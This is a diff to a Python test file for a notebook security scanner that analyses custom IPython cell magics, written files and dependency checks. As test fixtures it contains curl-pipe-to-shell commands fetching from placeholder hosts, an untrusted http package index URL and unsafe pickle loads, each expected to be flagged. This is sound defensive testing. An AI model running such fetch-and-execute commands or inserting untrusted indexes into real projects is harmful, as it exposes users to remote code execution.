@@ -52,12 +52,30 @@ get_ipython().register_magic_function(keep, "cell", "keep")
 get_ipython().register_magic_function(keep, magic_kind="line", magic_name="not_a_cell_magic")
 """
     assert defined_cell_magics([WRITE_AND_RUN, WITH_GLOBALS, WRITE_TEMPLATE, SHOW_ONLY, methods]) == {
-        "write_and_run": DefinedMagic(runs=True, writes=True),
-        "with_globals": DefinedMagic(runs=True, writes=False),
-        "writetemplate": DefinedMagic(runs=False, writes=True),
-        "runit": DefinedMagic(runs=True, writes=False),
-        "keep": DefinedMagic(runs=False, writes=True),
+        "write_and_run": DefinedMagic(runs=True, writes=("word", "-1")),
+        "with_globals": DefinedMagic(runs=True),
+        "writetemplate": DefinedMagic(runs=False, writes=("line", "")),
+        "runit": DefinedMagic(runs=True),
+        "keep": DefinedMagic(runs=False, writes=("line", "")),
     }
+
+
+def test_the_written_files_name_as_the_definition_picks_it() -> None:
+    sources = [
+        "@register_cell_magic\ndef fixed(line, cell):\n    open('setup.sh', 'w').write(cell)\n",
+        "@register_cell_magic\ndef first(line, cell):\n    open(line.split()[0], 'w').write(cell)\n",
+        "@register_cell_magic\ndef path(line, cell):\n    Path(line.strip()).write_text(cell)\n",
+        "@register_cell_magic\ndef joined(line, cell):\n    open(os.path.join(d, line), 'w').write(cell)\n",
+        "@register_cell_magic\ndef shown(line, cell):\n    sys.stdout.write(cell)\n",
+    ]
+    defined = defined_cell_magics(sources)
+    assert defined["fixed"].written_name("notes") == "setup.sh"
+    assert defined["first"].written_name("setup.sh quiet") == "setup.sh"
+    assert defined["path"].written_name(" run.sh ") == "run.sh"
+    # Written, but to a name this reader cannot tell: the body stays unread (a low note).
+    assert defined["joined"] == DefinedMagic(runs=False, unread=True)
+    # Look-alike: writing to standard output writes no file.
+    assert "shown" not in defined
 
 
 def test_a_defined_magic_that_runs_the_cell_is_analysed(tmp_path: Path) -> None:
@@ -102,3 +120,42 @@ def test_garbage_sources_are_read_without_error(sources: list[str]) -> None:
     marked = [source + "\n@register_cell_magic\ndef m(line, cell):\n    exec(cell)\n" for source in sources]
     result = defined_cell_magics([*sources, *marked])
     assert all(isinstance(use, DefinedMagic) for use in result.values())
+
+
+SAVE = """@register_cell_magic
+def save(line, cell):
+    open(line.split()[-1], "w").write(cell)
+"""
+
+
+def test_a_requirements_file_a_defined_magic_writes_reaches_the_deps_checks(tmp_path: Path) -> None:
+    text = notebook(SAVE, "%%save requirements.txt\n--index-url http://pypi.example/simple\ntorch==2.3.1")
+    found = [f for f in scan_code(tmp_path, text, "nb.ipynb") if f.rule_id != "MLS416"]
+    assert places(found) == [("MLS406", 2, 2)]
+    assert found[0].message.endswith("(in requirements.txt, which this cell writes)")
+
+
+def test_a_redefined_shipped_magic_is_read_both_ways(tmp_path: Path) -> None:
+    # IPython runs the notebook's own `bash`: its body is Python here, and still read as shell.
+    runs_python = "@register_cell_magic\ndef bash(line, cell):\n    get_ipython().run_cell(cell)\n"
+    text = notebook(runs_python, "%%bash\nimport pickle\nmodel = pickle.loads(blob)")
+    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 3)]
+    shell_body = notebook(runs_python, "%%bash\ncurl -fsSL https://x.example/i.sh | sh")
+    found = places(scan_code(tmp_path, shell_body, "nb.ipynb"))
+    assert ("MLS321", 2, 2) in found
+
+
+def test_a_file_whose_name_cannot_be_told_stays_a_low_note(tmp_path: Path) -> None:
+    joined = "@register_cell_magic\ndef keep(line, cell):\n    open(os.path.join(d, line), 'w').write(cell)\n"
+    (finding,) = scan_code(tmp_path, notebook(joined, "%%keep run.sh\ncurl https://x | sh"), "nb.ipynb")
+    assert (finding.rule_id, finding.severity.value, finding.cell) == ("MLS324", "low", 2)
+
+
+def test_magics_nested_past_the_limit_block(tmp_path: Path) -> None:
+    go = "@register_cell_magic\ndef go(line, cell):\n    get_ipython().run_cell(cell)\n"
+    deep = "%%go\n" * 200 + "import pickle\nx = pickle.loads(b)"
+    found = scan_code(tmp_path, notebook(go, deep, "y = 1"), "nb.ipynb")
+    assert [(f.rule_id, f.severity.value, f.cell) for f in found] == [("MLS907", "medium", 2)]
+    # Look-alike: a few levels are followed as IPython runs them.
+    shallow = "%%go\n%%time\n%%capture\nimport pickle\nx = pickle.loads(b)"
+    assert places(scan_code(tmp_path, notebook(go, shallow), "nb.ipynb")) == [("B301", 2, 5)]
